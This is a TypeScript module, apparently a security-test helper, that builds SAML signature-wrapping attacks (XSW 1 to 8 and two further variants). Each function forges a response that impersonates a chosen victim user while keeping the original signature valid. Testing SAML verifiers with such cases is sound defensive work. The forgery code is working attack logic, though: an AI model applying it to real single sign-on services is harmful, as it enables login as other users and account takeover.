/**
 * Signature wrapping (XSW 1 to 8, Somorovsky et al., USENIX Security 2012): the signed element moves to where it is
 * verified but not read, and a forged one takes its place.
 */

const part = (xml: string, pattern: RegExp): string => {
  const [found] = pattern.exec(xml) ?? []
  if (found === undefined) throw new Error(`The response has no ${pattern}`)
  return found
}

const assertionPattern = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const signaturePattern = /<Signature xmlns[\s\S]*?<\/Signature>/

/** The same element with another user and another ID, without the signature. */
const forge = (element: string, victim: string): string =>
  element
    .replace(signaturePattern, '')
    .replace(/ ID="[^"]*"/, ' ID="_forged"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${victim}`)

const insertBefore = (xml: string, closing: string, added: string): string => {
  const at = xml.lastIndexOf(closing)
  return `${xml.slice(0, at)}${added}${xml.slice(at)}`
}

const inResponse = (xml: string, content: string) => xml.replace(assertionPattern, () => content)

type Wrapping = (xml: string, victim: string) => string

/** For a response with a signature over its assertion, and over itself in the first two. */
export const wrappings: Readonly<Record<string, Wrapping>> = {
  'XSW 1: the original response inside the signature of the forged one': (xml, victim) => {
    const signature = part(xml, signaturePattern)
    const original = xml.replace(signature, '')
    const forged = forge(original, victim).replace(/<saml:Assertion/, `${signature}<saml:Assertion`)
    return forged.replace('</Signature>', () => `${original}</Signature>`)
  },
  'XSW 2: the original response beside its signature in the forged one': (xml, victim) => {
    const signature = part(xml, signaturePattern)
    const original = xml.replace(signature, '')
    return forge(original, victim).replace(/<saml:Assertion/, () => `${signature}${original}<saml:Assertion`)
  },
  'XSW 3: the forged assertion before the original': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    return inResponse(xml, `${forge(assertion, victim)}${assertion}`)
  },
  'XSW 3, with the same ID': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    const [, id = ''] = / ID="([^"]*)"/.exec(assertion) ?? []
    return inResponse(xml, `${forge(assertion, victim).replace('_forged', id)}${assertion}`)
  },
  'XSW 3, after the original': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    return inResponse(xml, `${assertion}${forge(assertion, victim)}`)
  },
  'XSW 4: the original assertion inside the forged one': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    return inResponse(xml, insertBefore(forge(assertion, victim), '</saml:Assertion>', assertion))
  },
  'XSW 5: the signature in the forged assertion, the original at the end': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    const signature = part(assertion, signaturePattern)
    const forged = insertBefore(forge(assertion, victim), '<saml:Subject>', signature)
    return inResponse(xml, `${forged}${assertion.replace(signature, '')}`)
  },
  'XSW 6: the original assertion inside the signature of the forged one': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    const signature = part(assertion, signaturePattern)
    const wrapped = signature.replace('</Signature>', () => `${assertion.replace(signature, '')}</Signature>`)
    return inResponse(xml, insertBefore(forge(assertion, victim), '<saml:Subject>', wrapped))
  },
  'XSW 7: the forged assertion in the extensions': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    return inResponse(xml, `<samlp:Extensions>${forge(assertion, victim)}</samlp:Extensions>${assertion}`)
  },
  'XSW 8: the original assertion in an object of the forged one’s signature': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    const signature = part(assertion, signaturePattern)
    const object = `<Object>${assertion.replace(signature, '')}</Object></Signature>`
    const wrapped = signature.replace('</Signature>', () => object)
    return inResponse(xml, insertBefore(forge(assertion, victim), '<saml:Subject>', wrapped))
  },
  'the original assertion is hidden in another namespace': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    return inResponse(xml, `<hidden xmlns="urn:other">${assertion}</hidden>${forge(assertion, victim)}`)
  },
  'the forged assertion is encrypted in name only': (xml, victim) => {
    const assertion = part(xml, assertionPattern)
    const forged = forge(assertion, victim)
    return inResponse(xml, `<saml:EncryptedAssertion>${forged}</saml:EncryptedAssertion>${assertion}`)
  },
}

/** Which of them need a signature over the response. */
export const isOfResponse = (name: string): boolean => /^XSW [12]:/.test(name)
